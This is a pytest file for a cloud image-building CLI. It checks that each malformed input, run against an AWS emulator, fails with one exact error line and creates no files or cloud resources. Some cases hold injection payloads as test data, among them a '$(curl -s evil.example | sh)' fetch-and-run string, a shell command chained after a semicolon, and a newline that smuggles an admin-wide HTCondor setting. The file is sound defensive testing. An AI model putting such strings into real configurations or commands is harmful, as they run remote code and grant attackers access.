"""Every bad input of issue 14's campaign, as a user types it: `invoke ...` in a subprocess (pointed at
the moto emulator, so nothing can reach a real cloud). Each one must end with exactly the expected
line on stderr, a non-zero exit, and nothing created: no output folder, no cloud resource."""
from __future__ import annotations

import contextlib
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import boto3
import pytest
import yaml

from condor_seed.aws.session import CALL_DEADLINE, CONNECT_TIMEOUT, READ_TIMEOUT

PROJECT = Path(__file__).resolve().parents[1]


def _recipe(tmp: Path, **override) -> str:
    """A copy of rhel9-x86_64 in tmp/recipes with `override` merged over it; returns its path."""
    folder = tmp / "recipes"
    folder.mkdir(exist_ok=True)
    shutil.copy(PROJECT / "recipes/defaults.yaml", folder)
    data = yaml.safe_load((PROJECT / "recipes/rhel9-x86_64.yaml").read_text())
    for key, value in override.items():
        data[key] = value if not isinstance(value, dict) or not isinstance(data.get(key), dict) \
            else {**data[key], **value}
    (folder / "bad.yaml").write_text(yaml.safe_dump(data))
    return str(folder / "bad.yaml")


def _raw_recipe(tmp: Path, content: bytes) -> str:
    folder = tmp / "recipes"
    folder.mkdir(exist_ok=True)
    shutil.copy(PROJECT / "recipes/defaults.yaml", folder)
    (folder / "bad.yaml").write_bytes(content)
    return str(folder / "bad.yaml")


def _a_file(tmp: Path) -> str:
    (tmp / "a-file").write_text("not a folder\n")
    return str(tmp / "a-file")


def _manifest(tmp: Path, text: str) -> str:
    (tmp / "m.json").write_text(text)
    return str(tmp / "m.json")


def _render(recipe: str, tmp: Path) -> list[str]:
    return ["render", "--recipe", recipe, "--out", str(tmp / "out")]


def _delete_default_vpc(ec2) -> None:
    for vpc in ec2.describe_vpcs(Filters=[{"Name": "is-default", "Values": ["true"]}])["Vpcs"]:
        vpc_filter = [{"Name": "vpc-id", "Values": [vpc["VpcId"]]}]
        for subnet in ec2.describe_subnets(Filters=vpc_filter)["Subnets"]:
            ec2.delete_subnet(SubnetId=subnet["SubnetId"])
        gateways = ec2.describe_internet_gateways(Filters=[{"Name": "attachment.vpc-id", "Values": [vpc["VpcId"]]}])
        for gateway in gateways["InternetGateways"]:
            ec2.detach_internet_gateway(InternetGatewayId=gateway["InternetGatewayId"], VpcId=vpc["VpcId"])
            ec2.delete_internet_gateway(InternetGatewayId=gateway["InternetGatewayId"])
        ec2.delete_vpc(VpcId=vpc["VpcId"])


@dataclass
class Case:
    args: Callable[[Path], list[str]]  # from the test's scratch folder
    line: str  # the one line expected on stderr; {tmp} is the scratch folder, {endpoint} the silent one
    code: int = 2
    silent_endpoint: bool = False  # point AWS_ENDPOINT_URL at a server that accepts and never answers
    arrange: Callable[[object], None] | None = None  # prepares the emulated account (given an EC2 client)


BAD_RECIPE = "{tmp}/recipes/bad.yaml"
NO_REGIONS = (f"error: {PROJECT}/recipes/debian13-local.yaml: regions: is empty (a local recipe is never published): "
              "name some with --regions")
NO_VPC = ("error: no default VPC in us-east-1: builder and smoke-test instances launch into it; create one with "
          "`aws ec2 create-default-vpc --region us-east-1` or build in another region")
CASES: dict[str, Case] = {
    # tracebacks in the campaign
    "non-UTF-8 recipe": Case(
        lambda t: _render(_raw_recipe(t, b"description: caf\xe9\n"), t),
        f"error: {BAD_RECIPE}: is not UTF-8 text (byte 0xe9 at offset 16)"),
    "--out under a file": Case(
        lambda t: ["render", "--recipe", "rhel9-x86_64", "--out", _a_file(t) + "/sub"],
        "error: --out '{tmp}/a-file/sub': is under {tmp}/a-file, which is a file, not a folder"),
    "build-seed --timeout abc": Case(
        lambda t: ["build-seed", "--region", "us-east-1", "--timeout", "abc"],
        "error: --timeout 'abc': not a number of seconds"),
    "smoke-test --timeout abc": Case(
        lambda t: ["smoke-test", "--region", "us-east-1", "--ami", "ami-0123456789abcdef0", "--timeout", "abc"],
        "error: --timeout 'abc': not a number of seconds"),
    "--keep abc": Case(
        lambda t: ["prune", "--recipe", "rhel9-x86_64", "--keep", "abc"],
        "error: --keep 'abc': must be a whole number of at least 1"),
    "--older-than 99999999999999d": Case(
        lambda t: ["cleanup", "--region", "us-east-1", "--older-than", "99999999999999d"],
        "error: --older-than '99999999999999d': at most 3650d"),
    "smoke-test --ami not-an-ami": Case(
        lambda t: ["smoke-test", "--region", "us-east-1", "--ami", "not-an-ami"],
        "error: --ami 'not-an-ami': not an AMI id (ami- and 8 or 17 hex digits)"),
    "manifest {\"builds\":[1]}": Case(
        lambda t: ["publish-ami", "--manifest", _manifest(t, '{"builds":[1]}')],
        "error: {tmp}/m.json: builds[0]: must be a mapping, got int", 1),
    "a directory as manifest": Case(
        lambda t: ["publish-ami", "--manifest", str(t)],
        "error: {tmp}: is a folder, not a manifest file", 1),
    "list on a recipe with regions: []": Case(
        lambda t: ["list", "--recipe", "debian13-local"],
        NO_REGIONS),
    "prune on a recipe with regions: []": Case(
        lambda t: ["prune", "--recipe", "debian13-local"],
        NO_REGIONS),
    "an endpoint that accepts TCP and never answers": Case(
        lambda t: ["list", "--recipe", "rhel9-x86_64", "--regions", "us-east-1"],
        "error: AWS endpoint {endpoint}/ accepted the connection but sent no answer within 15 s; gave up after "
        "retries (at most 45 s per call)", 3, silent_endpoint=True),
    "build-seed in an account with no default VPC": Case(
        lambda t: ["build-seed", "--region", "us-east-1", "--recipe", "rhel9-x86_64"],
        NO_VPC, 3, arrange=_delete_default_vpc),
    "smoke-test in an account with no default VPC": Case(
        lambda t: ["smoke-test", "--region", "us-east-1", "--ami", "ami-0123456789abcdef0"],
        NO_VPC, 3, arrange=_delete_default_vpc),
    # silently accepted in the campaign
    "48 MB recipe": Case(
        lambda t: _render(_raw_recipe(t, b"# " + b"x" * (48 * 1024 * 1024) + b"\n"), t),
        f"error: {BAD_RECIPE}: is 50,331,651 bytes; a recipe may be at most 65,536"),
    "newline in network.condor_host": Case(
        lambda t: _render(_recipe(t, network={"condor_host": "seed.example\nALLOW_ADMINISTRATOR = *"}), t),
        f"error: {BAD_RECIPE}: network.condor_host: 'seed.example\\nALLOW_ADMINISTRATOR = *' is not a host name, "
        "an IPv4 address or one HTCondor macro like $(FULL_HOSTNAME)"),
    "shell in pool.password_file": Case(
        lambda t: _render(_recipe(t, pool={"password_file": "/etc/condor/pw; touch /tmp/pwned"}), t),
        f"error: {BAD_RECIPE}: pool.password_file: '/etc/condor/pw; touch /tmp/pwned' is not an absolute path of "
        "letters, digits and ._- (no spaces, quotes, $ or ..)"),
    "command substitution in htcondor.repo_base": Case(
        lambda t: _render(_recipe(t, htcondor={"repo_base": "https://example.org/$(curl -s evil.example | sh)"}), t),
        f"error: {BAD_RECIPE}: htcondor.repo_base: 'https://example.org/$(curl -s evil.example | sh)' is not an "
        "https:// URL of letters, digits and ._~-/ (no spaces, quotes or $)"),
    "--poll-interval 0": Case(
        lambda t: ["nightly", "--region", "us-east-1", "--poll-interval", "0"],
        "error: --poll-interval '0': must be a number of seconds greater than 0"),
    "--poll-interval -1": Case(
        lambda t: ["build-seed", "--region", "us-east-1", "--poll-interval", "-1"],
        "error: --poll-interval '-1': must be a number of seconds greater than 0"),
    "reserved condor-seed: tag": Case(
        lambda t: _render(_recipe(t, tags={"condor-seed:build-id": "mine"}), t),
        f"error: {BAD_RECIPE}: tags: tag 'condor-seed:build-id' is reserved: condor-seed: and aws: tags are set "
        "by the pipeline"),
}


def _cloud_state() -> dict[str, list]:
    ec2 = boto3.client("ec2", region_name="us-east-1")
    return {
        "instances": [i["InstanceId"] for r in ec2.describe_instances()["Reservations"] for i in r["Instances"]],
        "security_groups": [g["GroupId"] for g in ec2.describe_security_groups()["SecurityGroups"]
                            if g["GroupName"] != "default"],
        "images": [i["ImageId"] for i in ec2.describe_images(Owners=["self"])["Images"]],
    }


@contextlib.contextmanager
def silent_endpoint():
    """A TCP server on 127.0.0.1 that accepts every connection and never sends a byte."""
    server = socket.create_server(("127.0.0.1", 0))
    held, stop = [], threading.Event()

    def accept():
        server.settimeout(0.2)
        while not stop.is_set():
            with contextlib.suppress(TimeoutError):
                held.append(server.accept()[0])

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.getsockname()[1]}", held
    finally:
        stop.set()
        thread.join()
        for conn in held + [server]:
            conn.close()


@pytest.mark.parametrize("name", list(CASES))
def test_bad_input_is_one_line_and_creates_nothing(name, aws_env, tmp_path):
    case = CASES[name]
    if case.arrange:
        case.arrange(boto3.client("ec2", region_name="us-east-1"))
    args = case.args(tmp_path)
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    with contextlib.ExitStack() as stack:
        env, attempts = dict(os.environ), []
        if case.silent_endpoint:
            env["AWS_ENDPOINT_URL"], attempts = stack.enter_context(silent_endpoint())
        proc = subprocess.run([sys.executable, "-m", "invoke", *args], cwd=PROJECT, env=env,
                              capture_output=True, text=True, timeout=120)
        attempts = len(attempts)
    assert proc.returncode == case.code, proc.stderr
    # progress lines ("[12:00:00] ...") may come first; the error is one line, and the only other one
    problems = [line for line in proc.stderr.splitlines() if not re.match(r"\[\d\d:\d\d:\d\d\] ", line)]
    assert problems == [case.line.format(tmp=tmp_path, endpoint=env["AWS_ENDPOINT_URL"])], proc.stderr
    if case.silent_endpoint:  # bounded by construction: attempts x read timeout stays inside the call's deadline
        assert 1 < attempts <= CALL_DEADLINE // READ_TIMEOUT, attempts
        assert attempts * (CONNECT_TIMEOUT + READ_TIMEOUT) < 60
    assert proc.stdout == ""
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before, "nothing created"
    assert _cloud_state() == {"instances": [], "security_groups": [], "images": []}
